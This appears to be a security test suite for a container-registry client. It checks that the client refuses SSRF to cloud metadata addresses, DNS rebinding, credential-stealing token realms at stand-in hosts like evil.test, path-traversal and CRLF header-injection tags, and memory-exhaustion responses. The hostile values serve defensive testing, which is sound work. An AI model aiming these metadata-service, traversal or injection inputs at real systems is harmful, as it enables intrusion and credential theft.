    """The address is checked anew at every hop."""

    def resolver(host: str, port: int) -> list[str]:
        return ["127.0.0.1"] if host == "127.0.0.1" else [address]

    with HostileServer(_to("https://cdn.evil.test/blob")) as server:
        error = _fails(server, "blob", resolver=resolver)
    assert error.code is Code.REGISTRY_UNREACHABLE
    assert "cdn.evil.test" in error.message


# names and addresses


@pytest.mark.parametrize(
    "addresses",
    [
        ["10.0.0.1"],
        ["127.0.0.1"],
        ["8.8.8.8", "127.0.0.1"],
        ["169.254.169.254"],
        ["::ffff:10.0.0.1"],
        ["64:ff9b::a00:1"],
    ],
)
def test_a_name_with_a_private_address_is_refused_unless_named(addresses: list[str]) -> None:
    """go-containerregistry#2440. One bad address among good ones is enough."""
    hosts = Hosts(private=frozenset({"other.test"}))
    with (
        client_of(hosts=hosts, resolver=lambda host, port: addresses) as client,
        pytest.raises(EvidenceUnavailable) as caught,
    ):
        client.resolve(Repository("registry.test", "acme/api"), "v1", soon())
    assert caught.value.code is Code.REGISTRY_UNREACHABLE
    assert "registry.test has the " in caught.value.message  # and not: was tried and did not answer


def test_a_named_name_with_a_private_address_is_connected_to(tmp_path: Path) -> None:
    certificate = make_certificate(tmp_path)
    with HostileServer(_always(answer(200, (f"Docker-Content-Digest: {DIGEST}",))), certificate) as server:
        name = f"registry.test:{server.port}"
        hosts = Hosts(authorities={name: str(certificate[0])})
        with client_of(hosts=hosts, resolver=lambda host, port: ["127.0.0.1"]) as client:
            assert client.resolve(Repository(name, "acme/api"), "v1", soon()) == DIGEST


@pytest.mark.parametrize(
    "address",
    [
        "fd00:ec2::254",
        "fd20:ce::254",
        "fd00:c1::a9fe:a9fe",
        "100.100.100.200",
        "::ffff:100.100.100.200",
        "168.63.129.16",
    ],
)
def test_a_named_name_leads_to_no_metadata_service(address: str) -> None:
    """Who answers for the name of a private registry would else choose what the gate's own machine is asked for."""
    name = "registry.test:5000"
    for hosts in (Hosts(private=frozenset({name})), Hosts(insecure=frozenset({name}))):
        with (
            client_of(hosts=hosts, resolver=lambda host, port: [address]) as client,
            pytest.raises(EvidenceUnavailable, match="which is never connected to") as caught,
        ):
            client.resolve(Repository(name, "acme/api"), "v1", soon())
        assert caught.value.code is Code.REGISTRY_UNREACHABLE


def test_dns_rebinding_has_nothing_to_rebind() -> None:
    """A name is looked up once a connection: the address that was checked is the one that is connected to."""
    lookups: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        lookups.append(host)
        return ["127.0.0.2"] if len(lookups) == 1 else ["169.254.169.254"]

    with HostileServer(_always(answer(200, (f"Docker-Content-Digest: {DIGEST}",)))) as server:
        name = f"registry.test:{server.port}"
        with client_of(name, resolver=resolver) as client, pytest.raises(EvidenceUnavailable) as caught:
            client.resolve(Repository(name, "acme/api"), "v1", soon())
        assert server.heads == []  # it listens at 127.0.0.1 only, and 127.0.0.2 is what was checked
    assert lookups == ["registry.test"]
    assert caught.value.code is Code.REGISTRY_UNREACHABLE


def test_dns_rebinding_is_checked_again_on_the_next_connection() -> None:
    answers = [["127.0.0.1"], ["169.254.169.254"]]
    with HostileServer(_always(answer(200, (f"Docker-Content-Digest: {DIGEST}", "Connection: close")))) as server:
        name = f"registry.test:{server.port}"
        with client_of(name, resolver=lambda host, port: answers.pop(0)) as client:
            assert client.resolve(Repository(name, "acme/api"), "v1", soon()) == DIGEST
            with pytest.raises(EvidenceUnavailable) as caught:
                client.resolve(Repository(name, "acme/api"), "v1", soon())
        assert len(server.heads) == 1
    assert "169.254.169.254" in caught.value.message


@pytest.mark.parametrize("failure", [OSError("no such name"), UnicodeError("label too long"), TimeoutError("slow")])
def test_a_name_that_cannot_be_resolved_is_a_failure(failure: Exception) -> None:
    def resolver(host: str, port: int) -> list[str]:
        raise failure

    with client_of(resolver=resolver) as client, pytest.raises(EvidenceUnavailable) as caught:
        client.resolve(Repository("registry.test", "acme/api"), "v1", soon())
    assert caught.value.code in (Code.REGISTRY_UNREACHABLE, Code.REGISTRY_TIMEOUT)


def test_a_name_without_an_address_is_unreachable() -> None:
    with client_of(resolver=lambda host, port: []) as client, pytest.raises(EvidenceUnavailable) as caught:
        client.resolve(Repository("registry.test", "acme/api"), "v1", soon())
    assert caught.value.code is Code.REGISTRY_UNREACHABLE


# TLS


def test_an_unknown_certificate_is_refused_and_says_what_to_do(tmp_path: Path) -> None:
    with HostileServer(_always(answer(200)), make_certificate(tmp_path)) as server:
        hosts = Hosts(private=frozenset({server.host}))
        with client_of(hosts=hosts) as client, pytest.raises(EvidenceUnavailable) as caught:
            client.resolve(Repository(server.host, "acme/api"), "v1", soon())
        assert server.heads == []
    assert caught.value.code is Code.REGISTRY_UNREACHABLE
    assert f"--registry-ca {server.host}=FILE" in caught.value.remedy


def test_a_certificate_of_another_name_is_refused(tmp_path: Path) -> None:
    certificate = make_certificate(tmp_path)
    with HostileServer(_always(answer(200)), certificate) as server:
        name = f"another.test:{server.port}"
        hosts = Hosts(authorities={name: str(certificate[0])})
        with (
            client_of(hosts=hosts, resolver=lambda host, port: ["127.0.0.1"]) as client,
            pytest.raises(EvidenceUnavailable) as caught,
        ):
            client.resolve(Repository(name, "acme/api"), "v1", soon())
        assert server.heads == []
    assert caught.value.code is Code.REGISTRY_UNREACHABLE


def test_plain_http_where_tls_is_spoken_is_a_failure(tmp_path: Path) -> None:
    with HostileServer(_always(answer(200)), make_certificate(tmp_path)) as server:
        assert _fails(server, "resolve").code in (Code.REGISTRY_PROTOCOL, Code.REGISTRY_UNREACHABLE)


# token services


def _challenging(realm: str) -> Callable[[Peer], bool | None]:
    return _always(answer(401, (f'WWW-Authenticate: Bearer realm="{realm}",service="s"',)))


@pytest.mark.parametrize(
    "realm", ["https://tokens.evil.test/token", "https://registry.test.evil.test/t", "https://evil.test/?registry.test"]
)
def test_cve_2025_27403_a_foreign_realm_gets_no_credentials(realm: str) -> None:
    """Who gets credentials is decided by host, as a whole; what there is for anybody anybody may ask for."""
    lookups: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        lookups.append(host)
        return ["127.0.0.1"]

    with HostileServer(_challenging(realm)) as server:
        name = f"registry.test:{server.port}"
        with (
            client_of(name, keychain=Held(BASIC), resolver=resolver) as client,
            pytest.raises(EvidenceUnavailable) as caught,
        ):
            client.resolve(Repository(name, "acme/api"), "v1", soon())
        assert all("authorization" not in head.lower() for head in server.heads)
    assert caught.value.code is Code.REGISTRY_UNAUTHORIZED
    assert "they were not sent" in caught.value.message
    assert lookups[0] == "registry.test"
    assert len(lookups) == 2  # with no credentials; at a private address, it is not connected to


@pytest.mark.parametrize("address", ["169.254.169.254", "0.0.0.0", "::ffff:10.0.0.1", "10.0.0.1", "127.0.0.1"])
def test_cve_2026_48978_a_realm_whose_name_has_a_private_address_is_not_connected_to(address: str) -> None:
    def resolver(host: str, port: int) -> list[str]:
        return ["127.0.0.1"] if host == "127.0.0.1" else [address]

    with HostileServer(_challenging("https://tokens.test/token")) as server:
        assert _fails(server, "resolve", resolver=resolver).code is Code.REGISTRY_UNREACHABLE


@pytest.mark.parametrize(
    "realm",
    [
        "http://169.254.169.254/",
        "https://169.254.169.254/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://metadata.google.internal/",
    ],
)
def test_cve_2026_33540_a_realm_at_the_metadata_service_is_not_asked(realm: str) -> None:
    with HostileServer(_challenging(realm)) as server:
        assert _fails(server, "resolve").code in (Code.REGISTRY_PROTOCOL, Code.REGISTRY_UNREACHABLE)


def test_cve_2026_33990_a_token_service_that_redirects_is_not_followed() -> None:
    with HostileServer(_always(answer(200, (), b'{"token": "t"}'))) as other:

        def script(peer: Peer) -> None:
            if peer.path.startswith("/token"):
                peer.send(answer(307, (f"Location: {other.url}/",)))
            else:
                realm = f"http://{peer.header('Host')}/token"
                peer.send(answer(401, (f'WWW-Authenticate: Bearer realm="{realm}"',)))

        with (
            HostileServer(script) as server,
            client_of(server.host, other.host, keychain=Held(BASIC)) as client,
            pytest.raises(EvidenceUnavailable),
        ):
            client.resolve(Repository(server.host, "acme/api"), "v1", soon())
        assert other.heads == []


def test_an_endless_token_is_cut_off() -> None:
    def script(peer: Peer) -> None:
        if peer.path.startswith("/token"):
            peer.send(b'HTTP/1.1 200 OK\r\n\r\n{"token":"')
            peer.flood(b"x" * 65536)
        realm = f"http://{peer.header('Host')}/token"
        peer.send(answer(401, (f'WWW-Authenticate: Bearer realm="{realm}"',)))

    with HostileServer(script) as server:
        assert _fails(server, "resolve").code is Code.RESPONSE_TOO_LARGE


def test_a_registry_that_asks_for_tokens_for_ever_is_answered_once() -> None:
    def script(peer: Peer) -> bool:
        realm = f"http://{peer.header('Host')}/token"
        challenge = answer(401, (f'WWW-Authenticate: Bearer realm="{realm}",error="invalid_token"',))
        peer.send(answer(200, (), b'{"token": "t"}') if peer.path.startswith("/token") else challenge)
        return True

    with HostileServer(script) as server:
        assert _fails(server, "manifest").code is Code.REGISTRY_UNAUTHORIZED
        assert len(server.heads) == 3


def test_cve_2026_41323_nothing_but_what_the_keychain_holds_is_ever_sent_as_authorization() -> None:
    """CVE-2026-4789 too: a service account's token has no way into a request."""
    with HostileServer(_always(answer(404))) as server:
        assert _call(server.host, "manifest") is None
        assert "authorization" not in server.heads[0].lower()
        assert "cookie" not in server.heads[0].lower()


@pytest.mark.parametrize("credential", [BASIC, Credential("config.json", identity_token="hunter2-correct-horse"), None])
def test_a_realm_at_another_port_of_the_same_host_gets_nothing_in_plain_http(credential: Credential | None) -> None:
    """Whoever may listen on a port of that machine got the registry's password."""
    with (
        HostileServer(_always(answer(200, (), b'{"token": "t"}'))) as other,
        HostileServer(_challenging(f"{other.url}/token")) as server,
    ):
        named = Hosts(insecure=frozenset({server.host}), private=frozenset({other.host}))
        both = Hosts(insecure=frozenset({server.host, other.host}))
        for hosts in (Hosts(insecure=frozenset({server.host})), named, both):
            with client_of(hosts=hosts, keychain=Held(credential)) as client, pytest.raises(EvidenceUnavailable):
                client.resolve(Repository(server.host, "acme/api"), "v1", soon())
        assert other.heads == []


@pytest.mark.parametrize("realm", ["http://127.0.0.1:99999/token", "http://127.0.0.1:x/token", "http://[::1/token"])
def test_a_realm_with_a_port_that_is_none_is_refused(realm: str) -> None:
    with HostileServer(_challenging(realm)) as server:
        assert _fails(server, "resolve", keychain=Held(BASIC)).code is Code.REGISTRY_PROTOCOL


def test_tokens_of_many_repositories_fill_no_memory() -> None:
    """Whoever may name images may name as many repositories as they like, each with a token of its own."""

    def script(peer: Peer) -> bool:
        if peer.path.startswith("/token"):
            peer.send(answer(200, (), b'{"token": "t", "expires_in": 2592000}'))
        elif peer.header("Authorization"):
            peer.send(answer(200, (f"Docker-Content-Digest: {DIGEST}", TYPE)))
        else:
            realm = f"http://{peer.header('Host')}/token"
            peer.send(answer(401, (f'WWW-Authenticate: Bearer realm="{realm}"',)))
        return True

    with HostileServer(script) as server, client_of(server.host) as client:
        for i in range(1_010):
            assert client.resolve(Repository(server.host, f"acme/{i}"), "v1", soon()) == DIGEST
        tokens = client._authenticator._tokens
        assert len(tokens) == 1_000
        # the oldest have left
        assert {name.path for name, _, _ in tokens}.isdisjoint({f"acme/{i}" for i in range(10)})


@pytest.mark.parametrize(("length", "kept"), [(16 * 1024, True), (16 * 1024 + 1, False), (60_000, False)])
def test_a_token_that_no_server_would_take_is_not_kept(length: int, kept: bool) -> None:  # noqa: FBT001
    def script(peer: Peer) -> bool:
        if peer.path.startswith("/token"):
            peer.send(answer(200, (), json.dumps({"token": "t" * length}).encode()))
        elif peer.header("Authorization"):
            peer.send(answer(200, (f"Docker-Content-Digest: {DIGEST}", TYPE)))
        else:
            realm = f"http://{peer.header('Host')}/token"
            peer.send(answer(401, (f'WWW-Authenticate: Bearer realm="{realm}"',)))
        return True

    with HostileServer(script) as server:
        if kept:
            assert _call(server.host, "resolve") == DIGEST
        else:
            assert _fails(server, "resolve").code is Code.REGISTRY_PROTOCOL


# more of everything


def test_a_name_for_every_image_opens_no_more_connections_than_are_kept() -> None:
    """A wildcard in the DNS of a hostile registry: a connection stayed open for every name that was ever asked."""

    def script(peer: Peer) -> bool:
        peer.send(answer(200, (f"Docker-Content-Digest: {DIGEST}", TYPE)))
        return True

    with HostileServer(script) as server:
        names = [f"x{i}.test:{server.port}" for i in range(200)]
        hosts = Hosts(insecure=frozenset(names))
        with client_of(hosts=hosts, resolver=lambda _host, _port: ["127.0.0.1"]) as client:
            for name in names:
                assert client.resolve(Repository(name, "acme/api"), "v1", soon()) == DIGEST
            assert server.connections == 200
            assert len(client._asker._transport._transport._pools) == 64
            while len(server._open) > 64:  # those of the others are closed, as the server will see
                threading.Event().wait(0.001)
            # the first has left, the last is kept
            client.resolve(Repository(names[0], "acme/api"), "v1", soon())
            client.resolve(Repository(names[-1], "acme/api"), "v1", soon())
            assert server.connections == 201


@pytest.mark.parametrize("piece", [b"[]", b"0", b"{}", b'""'])
def test_a_manifest_that_unfolds_to_millions_of_values_is_refused(piece: bytes) -> None:
    """4 MiB of `[],[],…` are 100 MiB of lists, and a hundred referrers may have as much each."""
    values = b",".join([piece] * (3 * 1024 * 1024 // (len(piece) + 1)))
    content = b'{"schemaVersion":2,"mediaType":"%s","x":[%s]}' % (OCI_MANIFEST.encode(), values)
    with HostileServer(_always(answer(200, (TYPE,), content))) as server:
        failure = _fails(server, "by tag")
    assert failure.code is Code.REGISTRY_PROTOCOL
    assert "values" in failure.message


def test_a_list_of_referrers_that_unfolds_to_millions_of_values_is_refused() -> None:
    content = b'{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[%s]}'
    with HostileServer(_always(answer(200, (), content % b",".join([b"{}"] * 1_000_000)))) as server:
        assert _fails(server, "referrers").code is Code.REGISTRY_PROTOCOL


# lists of tags: what is taken from one is asked for by name, and a part of one looks like a whole one


def _tags(*tags: str, link: str = "") -> bytes:
    more = (f'Link: <{link}>; rel="next"',) if link else ()
    return answer(200, more, json.dumps({"name": "acme/api", "tags": tags}).encode())


def test_a_list_of_tags_that_goes_on_at_another_host_is_refused_and_nobody_is_asked_there() -> None:
    with HostileServer(_always(_tags("evil"))) as foreign:
        for link in (f"{foreign.url}/v2/acme/api/tags/list?n=1", f"//{foreign.host}/x", "http://169.254.169.254/"):
            with (
                HostileServer(_always(_tags("v1", link=link))) as server,
                client_of(server.host, foreign.host) as client,
            ):
                with pytest.raises(EvidenceUnavailable) as caught:
                    client.tags(Repository(server.host, "acme/api"), soon())
                assert caught.value.code is Code.REGISTRY_PROTOCOL
                assert len(server.heads) == 1
        assert foreign.heads == []


def test_a_list_of_tags_that_goes_in_a_circle_ends() -> None:
    def script(peer: Peer) -> None:
        peer.send(_tags(f"v{peer.number}", link=f"/v2/acme/api/tags/list?last={peer.number % 3}"))

    with HostileServer(script) as server:
        assert _fails(server, "tags").code is Code.REGISTRY_PROTOCOL
        assert len(server.heads) == 4


@pytest.mark.parametrize(("at_once", "pages"), [(0, 100), (1, 100), (1000, 11)])
def test_a_list_of_tags_without_an_end_is_cut_off(at_once: int, pages: int) -> None:
    def script(peer: Peer) -> bool:
        tags = [f"v{peer.number}.{i}" for i in range(at_once)]
        peer.send(_tags(*tags, link=f"?last={peer.number}"))
        return True

    with HostileServer(script) as server:
        assert _fails(server, "tags").code is Code.RESPONSE_TOO_LARGE
        assert len(server.heads) == pages


@pytest.mark.parametrize("count", [10_001, 300_000, 1_000_000])
def test_a_million_tags_in_one_page_fill_no_memory(count: int) -> None:
    with HostileServer(_always(_tags(*(f"{i:07}" for i in range(count))))) as server:
        assert _fails(server, "tags").code is Code.RESPONSE_TOO_LARGE


def test_a_list_of_tags_that_unfolds_to_millions_of_values_is_refused() -> None:
    content = b'{"name":"acme/api","tags":[],"x":[%s]}' % b",".join([b"[]"] * 1_300_000)
    with HostileServer(_always(answer(200, (), content))) as server:
        assert _fails(server, "tags").code is Code.REGISTRY_PROTOCOL


NO_TAGS = [
    "..",
    "../../../etc/passwd",
    "v1/../../other/manifests/x",
    "v1?x",
    "v1#x",
    "v1%2f",
    "v1 HTTP/1.1\r\nX: y",
    "v1\n",
    "\x1b[2J",
    "\0",
    "v1\u202e",
    "\ud800",
    "V\u0131",
    f"sha256:{'0' * 64}",
    "v" * 129,
]


@pytest.mark.parametrize("tag", NO_TAGS, ids=ascii)
def test_a_tag_that_would_steer_a_path_or_a_terminal_is_no_tag(tag: str) -> None:
    with HostileServer(_always(_tags("v1", tag))) as server:
        failure = _fails(server, "tags")
    assert failure.code is Code.REGISTRY_PROTOCOL
    assert failure.message.isprintable()
    assert len(failure.message) < 400


# credential helpers


def _slow_helper(folder: Path, script: str) -> DockerConfigFile:
    """A configuration with a credential helper that notes each call in `asked`."""
    helper = folder / "docker-credential-slow"
    helper.write_text(f"#!/bin/sh\necho >> {folder}/asked\n{script}\n")
    helper.chmod(0o755)
    (folder / "asked").touch()
    (folder / "config.json").write_text(json.dumps({"credsStore": "slow"}))
    return DockerConfigFile(folder / "config.json", "config.json")


def _calls(folder: Path) -> int:
    return len((folder / "asked").read_text().splitlines())


def test_a_credential_helper_that_hangs_ends_with_the_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It has 15 seconds of its own, and a review three."""
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    keychain = _slow_helper(tmp_path, "exec sleep 600")
    with HostileServer(_always(answer(404))) as server:
        failure = _fails(server, "resolve", 1.0, keychain=keychain)
        assert server.heads == []
    assert failure.code is Code.REGISTRY_UNAUTHORIZED
    assert "docker-credential-slow did not answer" in failure.message


def test_a_credential_helper_that_fails_is_not_asked_again_for_seconds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    keychain = _slow_helper(tmp_path, "exit 1")
    clock = SettableClock()
    repository = Repository("registry.test", "acme/api")
    with client_of(keychain=keychain, clock=clock.monotonic) as client:
        for _ in range(6):
            with pytest.raises(EvidenceUnavailable) as caught:
                client.resolve(repository, "v1", soon())
            assert caught.value.code is Code.REGISTRY_UNAUTHORIZED
        assert _calls(tmp_path) == 1
        assert client.known_scope(repository) is None
        clock.advance(6)
        with pytest.raises(EvidenceUnavailable):
            client.resolve(repository, "v1", soon())
        assert _calls(tmp_path) == 2


def test_a_credential_helper_is_asked_once_for_six_images(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each call is a process; whoever names six images of a repository starts six of them."""
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    keychain = _slow_helper(tmp_path, f"while [ ! -e {tmp_path}/go ]; do sleep 0.01; done; exit 1")
    found = policies(policy(SIGNED))
    subjects = [Subject(f"registry.test/acme/api:v{i}") for i in range(6)]
    with client_of(keychain=keychain) as client:
        reviewer = Reviewer(client, NoRoots(), time.monotonic, SettableClock().now)
        threading.Timer(0.5, (tmp_path / "go").touch).start()
        reviews = reviewer.review(found, subjects, Stage.CHECK, soon(20))
        reviewer.close()
    assert {f.code for r in reviews for f in r.decision.findings if f.verdict.stops} == {Code.REGISTRY_UNAUTHORIZED}
    assert _calls(tmp_path) == 1


def test_a_credential_helper_is_asked_once_for_a_pod_of_forty_repositories(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is asked for their registry; whoever names forty repositories of one would start forty processes at once."""
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    keychain = _slow_helper(tmp_path, 'sleep 0.3; echo \'{"Username":"u","Secret":"hunter2-correct-horse"}\'')
    found = policies(policy(SIGNED))
    with HostileServer(_always(answer(401, ('WWW-Authenticate: Basic realm="x"',)))) as server:
        subjects = [Subject(f"{server.host}/acme/api{i}:v1") for i in range(40)]
        with client_of(server.host, keychain=keychain) as client:
            reviewer = Reviewer(client, NoRoots(), time.monotonic, SettableClock().now)
            reviews = reviewer.review(found, subjects, Stage.CHECK, soon(20))
            reviewer.close()
    assert {f.code for r in reviews for f in r.decision.findings if f.verdict.stops} == {Code.REGISTRY_UNAUTHORIZED}
    assert _calls(tmp_path) == 2  # and once more, for all were refused


def test_a_review_without_time_leaves_no_failure_behind_for_others(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    keychain = Remembering(
        _slow_helper(tmp_path, 'echo \'{"Username":"u","Secret":"hunter2-correct-horse"}\''), time.monotonic
    )
    repository = Repository("registry.test", "acme/api")
    failure = keychain.found(repository, soon(-1)).failure
    assert failure is not None
    assert failure.code is Code.DEADLINE_EXCEEDED
    assert keychain.found(repository, soon()).failure is None


# the transport alone


@pytest.mark.parametrize(
    "url",
    ["", "x", "ftp://a/", "http://", "http://[::1", "http://u:p@127.0.0.1/", "http://a:x/", "http://a:99999/", "//a/"],
)
def test_what_is_no_url_is_refused(url: str) -> None:
    transport = Transport(Hosts())
    try:
        with pytest.raises(EvidenceUnavailable) as caught:
            transport.send(Request("GET", url, 1), soon())
    finally:
        transport.close()
    assert caught.value.code is Code.REGISTRY_PROTOCOL


# our own registry


@pytest.mark.parametrize(
    "path",
    [
        "/v2/../secret/manifests/v1",
        "/v2/acme/../../secret/manifests/v1",
        "/v2/acme/api/blobs/../../../secret",
        "/v2/acme/api/blobs/sha256:../../../../secret",
        "/v2/acme/api/manifests/../index.json",
        "/v2/acme/api/manifests/sha256-..",
        "/v2/%2e%2e/manifests/v1",
        "/v2//etc/manifests/v1",
        "/v2/acme/api:v1/manifests/v1",
        "/v2/ACME/api/manifests/v1",
        "/v2/acme/api\0/manifests/v1",
        "/v2/acme/api/manifests/",
        "/v2/acme/api/tags/v1",
        "/v2/../secret/tags/list",
        "/v2/acme/../../secret/tags/list",
        "/v2//etc/tags/list",
        "/v2/acme/api/referrers/x",
        "/v2",
        "/",
        "",
    ],
)
def test_the_demo_registry_reads_nothing_but_layouts(tmp_path: Path, path: str) -> None:
    root = tmp_path / "root"
    LayoutWriter(root / "acme" / "api").image("v1", "one")
    hidden = LayoutWriter(tmp_path / "secret").image("v1", "secret")
    with DemoRegistry(root) as registry:
        found = registry.answer(path)
    assert found.status in ((200,) if path == "/v2" else (400, 404))
    assert found.digest != hidden
    assert found.body.startswith((b"{}", b'{"errors"'))


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_the_demo_registry_is_read_only(tmp_path: Path, method: str) -> None:
    with DemoRegistry(tmp_path) as registry:
        transport = Transport(Hosts(insecure=frozenset({registry.host})))
        try:
            found = transport.send(Request(method, f"http://{registry.host}/v2/a/manifests/v1", 999, {}, b"x"), soon())
        finally:
            transport.close()
    assert found.status == 405
    assert list(registry.requests) == [(method, "/v2/a/manifests/v1")]
